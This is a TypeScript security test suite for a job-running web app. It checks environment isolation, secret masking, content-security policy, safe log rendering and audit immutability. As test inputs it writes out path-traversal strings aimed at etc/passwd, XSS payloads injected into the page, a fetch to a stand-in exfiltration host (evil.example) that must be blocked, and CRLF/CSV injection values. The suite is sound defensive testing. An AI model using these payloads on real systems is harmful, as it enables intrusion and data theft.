import { readFileSync } from "node:fs";
import { request as httpRequest } from "node:http";
import { type Browser, chromium, type Page } from "@playwright/test";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { streamFrameSchema } from "@/lib/contracts/stream";
import { createDb, type Db } from "@/lib/db";
import { storageStateOf } from "../stack/stack-people";
import { outputOf, STACK, send } from "./send";
import { startWebBeside } from "./start-web-beside";

const DATE = "2026-10-30";

let db: Db;
let runId: string;
let log: string;
beforeAll(async () => {
  db = createDb(STACK.databaseUrl, "security-outputs");
  const body = { kind: "backfill", params: [{ runDate: DATE }] };
  const answer = await send({ method: "POST", path: "/api/runs", as: "operator", body });
  runId = JSON.parse(answer.text).runs[0].id;
  await vi.waitFor(
    async () => {
      const { finishedAt } = await db.run.findUniqueOrThrow({ where: { id: runId } });
      if (finishedAt === null) throw new Error("not yet");
    },
    { timeout: 55_000, interval: 100 },
  );
  log = (await send({ path: `/api/runs/${runId}/log`, as: "viewer" })).text;
});
afterAll(() => db?.$disconnect());

describe("15. what a program gets to see", () => {
  it("is its own variables and what a process needs to run, and no more", () => {
    const names: string[] = JSON.parse(/env (\[.*\])/.exec(log)?.[1] ?? "[]");
    const needed = ["HOME", "LANG", "LC_ALL", "LC_CTYPE", "PATH", "TMPDIR", "TZ", "USER"];
    const own = names.filter(
      (name) => !needed.includes(name) && !/^(RDS_|IP$|STATS_|SANDBOX_|SECRET_PW$)/.test(name),
    );
    expect(own).toEqual(expect.arrayContaining(["BACKCOURT_RUN_ID"]));
    expect(
      own.filter((name) => !/^(BACKCOURT_RUN_ID|NODE_ENV|PGAPPNAME|PYTHONUNBUFFERED)$/.test(name)),
    ).toEqual([]);
    expect(names).not.toContain("DATABASE_URL");
    expect(names.filter((name) => /REDIS|AUTH_SECRET|AWS|WAREHOUSE/.test(name))).toEqual([]);
    expect(log).toContain(`argv ["--run_date", "${DATE}"]`);
  });

  it("is not in the web, which could start nothing with it either", () => {
    const environment = readFileSync(`/proc/${STACK.webPid}/environ`, "utf8");
    const names = environment.split("\0").map((pair) => pair.split("=")[0] ?? "");
    expect(
      names.filter((name) => /^(AWS_|INGESTION_ENV_|DBT_ENV_|ML_ENV_|DASHBOARD_HEADER)/.test(name)),
    ).toEqual([]);
    expect(environment).not.toContain(STACK.programSecret);
  });
});

describe("17. a download's path", () => {
  it.each([
    "..%2f..%2fetc%2fpasswd",
    "%252f",
    "%2e%2e",
    "%00",
    `${"..%2f".repeat(20)}etc%2fpasswd`,
    "..%5c..%5c",
    "%c0%ae%c0%ae",
  ])("%s: 404, and no file", async (id) => {
    for (const path of [`/api/runs/${id}/log`, `/api/runs/${id}/nodes/${id}/sql`, `/_next/static/${id}`]) {
      const answer = await send({ path, as: "viewer" });
      // A path that is shortened before it is looked up leads elsewhere, with nothing in it.
      expect([path, [308, 400, 404].includes(answer.status)]).toEqual([path, true]);
      expect(answer.text).not.toContain("root:");
    }
  });
});

describe("18. the raw log", () => {
  it("is a text to keep, never a page", async () => {
    const { headers } = await send({ path: `/api/runs/${runId}/log`, as: "viewer" });
    expect(headers).toMatchObject({
      "content-type": "text/plain; charset=utf-8",
      "content-disposition": expect.stringMatching(/^attachment; filename="[\w.-]+"$/),
      "x-content-type-options": "nosniff",
      "cache-control": "no-store",
    });
  });
});

describe("19. what a log would do to a browser", () => {
  let browser: Browser;
  let page: Page;
  const troubles: string[] = [];
  beforeAll(async () => {
    browser = await chromium.launch({ executablePath: process.env.CHROMIUM_PATH, args: ["--no-sandbox"] });
    const context = await browser.newContext({
      storageState: storageStateOf(STACK.url, STACK.sessions.admin),
    });
    page = await context.newPage();
    page.on("console", (message) => message.type() === "error" && troubles.push(message.text()));
    page.on("pageerror", (error) => troubles.push(error.message));
    page.on("dialog", (dialog) => {
      troubles.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    await page.goto(`${STACK.url}/runs/${runId}`);
    await page.getByText("<img src=x onerror=").first().waitFor();
  });
  afterAll(() => browser?.close());

  it("nothing: tags are text, links of a terminal are none, only colours are drawn", async () => {
    expect(await page.title()).not.toContain("owned");
    expect(await page.locator('img[src="x"], a[href^="javascript"], [onerror]').count()).toBe(0);
    const text = await page.getByRole("log").first().textContent();
    expect(text).toContain("<script>document.title=");
    expect(text).toContain("click me");
    expect(text).not.toContain("\u001b");
    expect(troubles).toEqual([]);
  });

  it("nor could a script that got into the page: it has no nonce", async () => {
    const found = await page.evaluate(async () => {
      const seen: string[] = [];
      const wanted = ["script-src-attr", "script-src-elem", "connect-src"];
      const refused = new Promise<void>((resolve) => {
        document.addEventListener("securitypolicyviolation", (event) => {
          seen.push(event.effectiveDirective);
          if (wanted.every((directive) => seen.includes(directive))) resolve();
        });
      });
      const owned = "(window.parent ?? window).owned = 1";
      document.body.insertAdjacentHTML(
        "beforeend",
        `<img src="x" onerror="${owned}"><svg onload="${owned}"></svg><script>${owned}</script>
         <iframe srcdoc="<script>${owned}</script>"></iframe><iframe src="javascript:${owned}"></iframe>
         <a id="lure" href="javascript:${owned}">x</a>
         <object data="data:text/html,<script>${owned}</script>"></object>`,
      );
      document.getElementById("lure")?.click();
      const elsewhere = await fetch("https://evil.example/?stolen").catch(() => "blocked");
      await refused;
      // What was let through instead would run as a task that is already queued.
      const picture = new Image();
      await new Promise((resolve) => {
        picture.addEventListener("error", resolve);
        picture.src = "/nothing-of-that-name.png";
      });
      return { seen, owned: (window as { owned?: number }).owned ?? null, elsewhere };
    });
    expect(found).toMatchObject({ owned: null, elsewhere: "blocked" });
    expect(found.seen).toEqual(expect.arrayContaining(["script-src-attr", "script-src-elem", "connect-src"]));
  });

  it("the policy that sees to it is strict, and every page's nonce is its own", async () => {
    const policies = [];
    for (const path of ["/", "/runs", "/sign-in"]) {
      const { headers } = await send({ path, as: "admin" });
      policies.push(String(headers["content-security-policy"]));
      expect(headers).toMatchObject({
        "x-frame-options": "DENY",
        "x-content-type-options": "nosniff",
        "referrer-policy": expect.stringMatching(/same-origin|no-referrer/),
      });
    }
    for (const policy of policies) {
      const scripts = /script-src ([^;]+)/.exec(policy)?.[1] ?? "";
      expect(scripts).toMatch(/'nonce-[A-Za-z0-9+/=_-]{16,}'/);
      expect(scripts).not.toMatch(/unsafe-inline|unsafe-eval|https?:|\*/);
      for (const part of [
        "frame-ancestors 'none'",
        "base-uri 'none'",
        "form-action 'self'",
        "object-src 'none'",
      ])
        expect(policy).toContain(part);
    }
    expect(new Set(policies.map((policy) => /'nonce-([^']+)'/.exec(policy)?.[1])).size).toBe(policies.length);
  });
});

describe("20. a log that speaks the stream's language", () => {
  it("every event is one JSON line of ours, and the log's end comes once, at its end", async () => {
    const text = await streamUntilEnd(`/api/stream?run=${runId}&after=0`);
    const events = text.split("\n\n").filter((event) => event.trim() !== "" && !event.startsWith(":"));
    const frames = events.flatMap((event) => {
      expect(event).not.toMatch(/^event:/m);
      return event
        .split("\n")
        .flatMap((line) =>
          line.startsWith("data: ") ? [streamFrameSchema.parse(JSON.parse(line.slice(6)))] : [],
        );
    });
    const lines = frames.flatMap((frame) => (frame.type === "lines" ? frame.lines : []));
    expect(lines.map(({ seq }) => seq)).toEqual(lines.map((_, index) => index + 1));
    expect(lines.map((line) => line.text)).toEqual(
      expect.arrayContaining(["before", "event: done", 'data: {"type":"end-of-log"}', "after"]),
    );
    expect(frames.filter(({ type }) => type === "end-of-log")).toHaveLength(1);
    expect(frames.findIndex(({ type }) => type === "end-of-log")).toBeGreaterThan(
      frames.findLastIndex(({ type }) => type === "lines"),
    );
  });
});

describe("21. secrets in a log", () => {
  it("are masked before they are stored: whole, torn over many writes, in base64, in a URL, of a known form", async () => {
    const chunks = await db.logChunk.findMany({ where: { runId } });
    const stored = JSON.stringify(chunks.map(({ lines }) => lines));
    for (const text of [stored, log, await outputOf("worker"), await outputOf("web")]) {
      expect(text).not.toContain(STACK.programSecret);
      expect(text).not.toContain(Buffer.from(STACK.programSecret).toString("base64"));
      expect(text).not.toContain("pass-in-a-dsn");
      expect(text).not.toContain("AKIAIOSFODNN7EXAMPLE");
    }
    expect(log).toMatch(/plain \*\*\* and \*\*\*/);
    expect(log).toMatch(/split \*\*\* end/);
    expect(log).toMatch(/base64 \*\*\*/);
    expect(log).toMatch(/aws \*\*\*/);
  });
});

describe("22. a dependency's own words", () => {
  it("stay in the log, under the id that the answer names", async () => {
    const web = await startWebBeside({
      WAREHOUSE_URL: "postgresql://reader:pw-of-the-warehouse@127.0.0.1:1/warehouse",
      LOG_LEVEL: "info",
    });
    try {
      const answer = await send({ path: "/api/coverage/2026-11-01", as: "admin", port: web.port });
      expect([answer.status, answer.code]).toEqual([503, "warehouse-unavailable"]);
      expect(answer.text).not.toMatch(/ECONNREFUSED|127\.0\.0\.1|pw-of-the-warehouse|at \w+ \(|node_modules/);
      const { requestId } = JSON.parse(answer.text).error;
      await vi.waitFor(() => expect(web.output()).toContain(requestId));
      expect(web.output()).not.toContain("pw-of-the-warehouse");
    } finally {
      await web.stop();
    }
  });
});

describe("23. the audit", () => {
  it("cannot be taken back by the role that web and worker have, and has no line that it was not given", async () => {
    const app = createDb(STACK.appUrl, "security-outputs-app");
    try {
      await expect(app.$executeRaw`delete from backcourt.audit_entry`).rejects.toThrow(
        /42501|permission denied/,
      );
      await expect(app.$executeRaw`update backcourt.audit_entry set actor = 'nobody'`).rejects.toThrow(
        /42501|permission denied/,
      );
    } finally {
      await app.$disconnect();
    }
    const agent = "agent%0d%0a2026 admin accepted";
    const reason = "a\r\n2026-11-23,Ada Admin,people.look,accepted\u001b[2K";
    await send({
      method: "POST",
      path: "/api/waivers",
      as: "viewer",
      headers: { "user-agent": agent },
      body: { date: "x", game: "y", reason },
    });
    await send({
      method: "POST",
      path: "/api/waivers",
      as: "operator",
      body: { date: "2026-11-01", game: "AAA@BBB", reason },
    });
    const csv = await send({ path: "/api/audit/csv?action=waiver.create", as: "admin" });
    const lines = csv.text.trimEnd().split("\r\n");
    expect(lines).toHaveLength(1 + (await db.auditEntry.count({ where: { action: "waiver.create" } })));
    expect(csv.text).not.toContain("\u001b");
    expect(csv.text).toContain("a\\\\r\\\\n2026-11-23");
  });
});

function streamUntilEnd(path: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const { hostname, port } = new URL(STACK.url);
    const headers = { cookie: STACK.sessions.viewer };
    const request = httpRequest({ agent: false, host: hostname, port, path, headers }, (response) => {
      let text = "";
      response.setEncoding("utf8").on("data", (piece: string) => {
        text += piece;
        if (!/^data: \{"type":"end-of-log".*\n\n/m.test(text)) return;
        resolve(text);
        request.destroy();
      });
      response.on("error", () => {});
    });
    request.on("error", reject);
    request.end();
  });
}
